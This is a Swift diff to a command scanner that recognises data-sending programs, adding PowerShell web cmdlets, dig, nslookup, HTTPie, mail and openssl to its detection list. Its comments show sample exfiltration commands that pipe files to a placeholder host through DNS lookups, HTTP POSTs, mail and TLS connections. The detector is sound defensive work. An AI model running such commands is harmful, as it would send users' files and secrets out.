@@ -11,12 +11,31 @@ struct SendingProgram {
     case pusher
     /// `python3 -c '…connect(("host", 443))…'`
     case interpreter
+    /// `Invoke-RestMethod -Method Post -Body …` of PowerShell, by its whole names and by short ones, which may be other words.
+    case powershell, shortPowershell
+    /// `dig $(cat file).host.example`
+    case lookup
+    /// `http POST host.example < file`
+    case httpie
+    /// `mail -s subject to@host.example < file`
+    case mailer
+    /// `openssl s_client -connect host.example:443 < file`
+    case tls
+
+    /// How it is told a machine; nil where its program says which.
+    var telling: NetworkProgram.Telling? {
+      switch self {
+      case .curl, .wget, .netcat, .shell, .powershell, .shortPowershell, .lookup, .httpie, .tls: .words
+      case .copier, .pusher: .remote
+      case .device, .interpreter, .mailer: nil
+      }
+    }
 
     /// Whether the program is meant wherever its name stands; other names are words and parts of what other commands are told.
     fileprivate var isUnmistakable: Bool {
       switch self {
-      case .curl, .wget, .netcat, .device: true
-      case .copier, .shell, .pusher, .interpreter: false
+      case .curl, .wget, .netcat, .device, .powershell: true
+      case .copier, .shell, .pusher, .interpreter, .shortPowershell, .lookup, .httpie, .mailer, .tls: false
       }
     }
   }
@@ -26,19 +45,25 @@ struct SendingProgram {
   /// Whether the output of another command goes into it.
   let isPiped: Bool
 
-  private static let names: [(StaticString, Kind)] = [
+  /// What each is called.
+  static let names: [(StaticString, Kind)] = [
     ("curl", .curl), ("wget", .wget), ("ncat", .netcat), ("netcat", .netcat), ("nc.openbsd", .netcat),
     ("nc.traditional", .netcat), ("nc", .netcat), ("socat", .netcat), ("scp", .copier), ("pscp", .copier),
     ("rsync", .copier),
     ("ssh", .shell), ("git", .pusher), ("python", .interpreter), ("pypy", .interpreter), ("perl", .interpreter),
     ("ruby", .interpreter), ("node", .interpreter), ("php", .interpreter), ("deno", .interpreter),
-    ("bun", .interpreter),
+    ("bun", .interpreter), ("invoke-webrequest", .powershell), ("invoke-restmethod", .powershell),
+    ("iwr", .shortPowershell), ("irm", .shortPowershell), ("dig", .lookup), ("kdig", .lookup), ("nslookup", .lookup),
+    ("ping6", .lookup), ("ping", .lookup), ("resolve-dnsname", .lookup), ("http", .httpie), ("https", .httpie),
+    ("xh", .httpie), ("mailx", .mailer), ("mail", .mailer), ("mutt", .mailer), ("openssl", .tls), ("telnet", .netcat),
   ]
 
-  /// The first letters of these names, in both cases, and that of a device.
-  private static let beginnings: [Bool] = (0..<256).map { byte in
-    byte == 0x2F || names.contains { $0.0.utf8Start[0] == UInt8(byte) | 0x20 && ByteClass.isLetter(UInt8(byte)) }
+  /// The names by their first letters, in both cases.
+  private static let byLetter: [[(StaticString, Kind)]] = (0..<256).map { byte in
+    names.filter { $0.0.utf8Start[0] == UInt8(byte) | 0x20 && ByteClass.isLetter(UInt8(byte)) }
   }
+  /// The first letters, and that of a device.
+  private static let beginnings: [Bool] = byLetter.indices.map { $0 == 0x2F || !byLetter[$0].isEmpty }
 
   /// All of a text, in order.
   static func find(in bytes: [UInt8]) -> [SendingProgram] {
@@ -51,7 +76,10 @@ struct SendingProgram {
         continue
       }
       guard index == 0 || !ByteClass.isAlphanumeric(bytes[index - 1]) && bytes[index - 1] != 0x5F else { continue }
-      guard let (name, kind) = names.first(where: { bytes.holdsLetters($0.0, at: index) }) else { continue }
+      let name = byLetter[Int(bytes[index])].first { name, _ in
+        bytes.holdsLetters(name, at: index) && !isLetter(bytes, at: index + name.utf8CodeUnitCount)
+      }
+      guard let (name, kind) = name else { continue }
       var end = index + name.utf8CodeUnitCount
       // `python3.12`
       if kind == .interpreter { end = bytes.end(from: end) { ByteClass.isDigit($0) || $0 == 0x2E } }
@@ -62,6 +90,10 @@ struct SendingProgram {
       programs.append(SendingProgram(kind: kind, start: index, isPiped: isPiped(bytes, before: index)))
     }
     return programs
+  }
+
+  private static func isLetter(_ bytes: [UInt8], at index: Int) -> Bool {
+    index < bytes.count && ByteClass.isLetter(bytes[index])
   }
 
   /// Programs that run another one.
